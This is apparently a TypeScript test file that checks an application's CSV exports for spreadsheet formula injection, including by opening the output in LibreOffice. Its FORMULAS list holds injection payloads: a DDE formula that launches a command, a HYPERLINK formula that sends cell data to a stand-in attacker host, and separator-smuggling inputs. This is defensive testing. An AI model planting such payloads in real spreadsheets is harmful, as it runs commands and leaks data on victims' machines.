/** No table that leaves the program runs in a spreadsheet: every writer, every cell. */
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { BYTE_ORDER_MARK, csvFile } from "../../../contract/csv.ts";
import { AUDIT_FORMATS } from "../../../main/engine/core/activity.ts";
import { createRejectedFile } from "../../../main/engine/import/run/rejected-rows.ts";
import { newFolder } from "../../helpers/engine.ts";

/** What a spreadsheet begins a formula with; the last four are the full-width spellings. */
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
const FORMULAS = STARTS.flatMap((start) => [
  `${start}cmd|' /C calc'!A0`,
  `${start}HYPERLINK("http://evil.example?"&A1,"x")`,
  `'${start}1`.slice(1),
]);
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;
/** Would a spreadsheet run it? A plain number it only reads. */
const runs = (cell: string): boolean =>
  STARTS.some((start) => cell.startsWith(start)) && !PLAIN_NUMBER.test(cell);

const cellsOf = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true });

const auditCsv = (subject: string, details: string) =>
  AUDIT_FORMATS.csv.row({
    sequence: 1,
    at: 0,
    user_id: 501,
    device_id: subject,
    action: subject,
    subject,
    details,
    previous_hash: "0",
    hash: "1",
  });

/** Each takes any text into its table, and gives the table. */
const WRITERS: [string, (text: string) => string][] = [
  [
    "the checklist",
    (text) =>
      csvFile([
        [text, "plain"],
        ["plain", text],
      ]),
  ],
  ["the activity", (text) => auditCsv(text, JSON.stringify({ text }))],
];

describe.each(WRITERS)("%s as a table", (_, write) => {
  it("holds no formula, whatever somebody typed", () => {
    for (const text of FORMULAS) expect(cellsOf(write(text)).flat().filter(runs), text).toEqual([]);
    fc.assert(
      fc.property(fc.constantFrom(...STARTS), fc.string(), (start, rest) => {
        expect(
          cellsOf(write(start + rest))
            .flat()
            .filter(runs),
        ).toEqual([]);
      }),
    );
  });

  it("keeps a text in its own cell: no quote, break or separator of another country lets it out", () => {
    for (const text of ['a";=1', "a;=1", "a\t=1", "a\n=1", "a\r\n=1", 'a",=1', "a|=1"])
      expect(cellsOf(write(text)).flat().filter(runs), text).toEqual([]);
  });
});

/** Opens tables in LibreOffice with this separator and gives the formulas that it made of each; null where there is no LibreOffice. */
function formulasIn(folder: string, files: readonly string[], separator: string): string[][] | null {
  const options = `CSV:${separator.charCodeAt(0)},34,76,1`;
  const args = ["--headless", `-env:UserInstallation=file://${folder}/office`, `--infilter=${options}`];
  const paths = files.map((file) => join(folder, file));
  try {
    execFileSync("soffice", [...args, "--convert-to", "fods", "--outdir", folder, ...paths], {
      stdio: "ignore",
    });
  } catch (error) {
    if (error instanceof Error && "code" in error && error.code === "ENOENT") return null;
    throw error;
  }
  return paths.map((path) => {
    const sheet = readFileSync(path.replace(/csv$/, "fods"), "utf8");
    return sheet.match(/table:formula="[^"]*"/g) ?? [];
  });
}

it("no table becomes formulas in LibreOffice, whether a comma, a semicolon or a tab separates its cells", async (context) => {
  const folder = join(newFolder(), "tables");
  mkdirSync(folder);
  const texts = FORMULAS.flatMap((text) => [
    text,
    `a;${text}`,
    `a\t${text}`,
    `a,${text}`,
    `a\n${text}`,
    `a;"${text}`,
  ]);
  const rejected = createRejectedFile(join(folder, "rejected.csv"));
  await rejected.write(
    ["id", "name;=1+1"],
    texts.map((cell, line) => ({
      line,
      problems: [{ column: null, code: "notWhole", params: { cell } }],
      cells: ["x", cell],
    })),
  );
  await rejected.finish();
  writeFileSync(join(folder, "checklist.csv"), csvFile(texts.map((text) => ["1", text, "plain"])));
  const activity = texts.map((text) => auditCsv(text, JSON.stringify({ text, after: ";=1+1" })));
  writeFileSync(join(folder, "activity.csv"), AUDIT_FORMATS.csv.head + activity.join(""));
  // What a table that guards nothing becomes, so that what is looked for is known to be found.
  writeFileSync(join(folder, "open.csv"), `${BYTE_ORDER_MARK}=1+1,"a;=1+1",a\t=1+1\r\n`);
  for (const separator of [",", ";", "\t"]) {
    const formulas = formulasIn(
      folder,
      ["open.csv", "rejected.csv", "checklist.csv", "activity.csv"],
      separator,
    );
    if (formulas === null) return context.skip("LibreOffice is not installed here");
    const [open, ...ours] = formulas;
    expect(open?.length, separator).toBeGreaterThan(0);
    expect(ours, separator).toEqual([[], [], []]);
  }
});

it("would notice a writer that guards nothing", () => {
  expect(cellsOf('"=1+1","x"').flat().filter(runs)).toEqual(["=1+1"]);
});
